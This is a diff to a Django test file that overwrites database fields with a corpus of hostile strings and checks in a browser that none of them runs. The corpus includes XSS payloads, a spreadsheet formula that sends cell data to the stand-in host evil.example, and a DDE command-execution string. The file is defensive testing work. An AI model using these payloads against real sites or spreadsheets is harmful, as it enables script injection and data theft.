@@ -13,8 +13,9 @@ from urllib.parse import urlsplit
 
 import pytest
 from django.apps import apps
+from django.contrib.postgres.fields import ArrayField
 from django.db import transaction
-from django.db.models import CharField, TextField
+from django.db.models import CharField, JSONField, TextField
 from django.http import HttpResponse
 from django.test import Client, RequestFactory
 from playwright.sync_api import Browser, BrowserContext
@@ -47,36 +48,56 @@ CORPUS = (
     "<a href=javascript:ran=1>x</a><style>@import'//evil.example/x'</style>",
     "<!--><img src=x onerror=ran=1>-->",
     "\u202egnp.exe\u202c a\u200bb\ufeff\u2066c\u2069\x1b[31m",
+    "=hyperlink(\"//evil.example/\"&a1)", "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1)", "\t=1", "＝1",
 )  # fmt: skip
 MARK = "ran=1"
 # Text with a meaning of its own: keys, digests, codes that a registry must know, times, conditions in their grammar.
 KEPT = {
     "kind", "target", "exclusive_key", "idem_key", "lease_owner", "url", "verb", "method", "digest", "key", "kid", "wrapped", "kek_id",
     "path", "sort_key", "password", "prefix", "session_key", "name_digest", "value_class", "network", "sealed_secrets", "census_cron",
-    "scan_cron", "cron", "evidence", "plan", "where", "error_code", "state_code",
+    "scan_cron", "cron", "evidence", "plan", "where", "error_code", "state_code", "pattern",
 }  # fmt: skip
+# Documents with words of sources and of people in them, and the keys in them that mean something to us.
+DOCUMENTS = {
+    "told", "words", "trial", "examples", "keys", "key_columns", "differs", "before", "after", "foreign_keys", "indexes", "top", "patterns",
+    "held", "unreadable", "reasons", "detail", "names",
+}  # fmt: skip
+MEANT = {"key", "kind", "code", "type", "value_class", "id", "column", "element", "aspect", "state", "level"}
 FAILED = {"error_code": "key_file", "error_params": {"reason": CORPUS[0] + CORPUS[1]}}
 # What a script that got in would leave behind even if the content policy kept it from running.
-INTRUDERS = """() => ({
-    ran: window.ran, policy: window.refusals,
-    found: [...document.querySelectorAll('*')].filter(node =>
+FOUND = """root => [...root.querySelectorAll('*')].filter(node =>
         [...node.attributes].some(a => /^on/i.test(a.name) || a.name === 'srcdoc' || /^\\s*javascript:/i.test(a.value) && /^(href|action|formaction|src|data)$/i.test(a.name)) ||
         ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MATH'].includes(node.tagName) ||
-        node.tagName === 'SCRIPT' && !node.src && node.type !== 'application/json' ||
+        node.tagName === 'SCRIPT' && !node.getAttribute('src') && node.type !== 'application/json' ||
         node.tagName === 'META' && /refresh/i.test(node.httpEquiv) || node.tagName === 'STYLE' ||
-        node.tagName === 'IMG' && node.getAttribute('src') === 'x').map(node => node.outerHTML.slice(0, 200)),
-    text: document.title + document.body.innerText,
-})"""
+        node.tagName === 'IMG' && node.getAttribute('src') === 'x').map(node => node.outerHTML.slice(0, 200))"""
+INTRUDERS = f"""() => ({{
+    ran: window.ran, policy: window.refusals, found: ({FOUND})(document), text: document.title + document.body.innerText,
+}})"""
+# The same of an answer that is taken apart as the browser does it, and not shown.
+PARSED = f"""html => {{
+    const parsed = new DOMParser().parseFromString(html, 'text/html');
+    return {{ found: ({FOUND})(parsed), text: parsed.documentElement.textContent }};
+}}"""
 
 
 def hostile(number: int, length: int | None) -> str:
     """The corpus from its ``number``-th string on, as much as fits, never the same twice."""
     start = number % len(CORPUS)
-    text, whole = str(number), [*CORPUS[start:], *CORPUS[:start]]
-    for part in whole:
-        if length is None or len(text) + len(part) <= length:
+    text, end = "", f" {number}"[-(length or 99) :]
+    for part in (*CORPUS[start:], *CORPUS[:start]):
+        if length is None or len(text) + len(part) + len(end) <= length:
             text += part
-    return text
+    return text + end
+
+
+def poisoned(value: Any, number: int) -> Any:
+    """A document with every text in it exchanged that is not a key of ours."""
+    if isinstance(value, dict):
+        return {name: item if name in MEANT else poisoned(item, number + 1) for name, item in value.items()}
+    if isinstance(value, list):
+        return [poisoned(item, number + place) for place, item in enumerate(value)]
+    return hostile(number, 300) if isinstance(value, str) else value
 
 
 def script() -> str:
@@ -102,10 +123,16 @@ def overwrite() -> int:
             for field in model._meta.concrete_fields
             if isinstance(field, CharField | TextField) and not field.choices and field.name not in KEPT
         ]
+        documents = [
+            field.name
+            for field in model._meta.concrete_fields
+            if isinstance(field, JSONField | ArrayField) and field.name in DOCUMENTS
+        ]
         for number, row in enumerate(model._default_manager.all()):
             change: dict[str, Any] = {
                 field.name: hostile(number + place, field.max_length) for place, field in enumerate(texts)
             }
+            change |= {name: poisoned(getattr(row, name), number) for name in documents}
             if hasattr(row, "error_params"):
                 change |= FAILED
             if change:
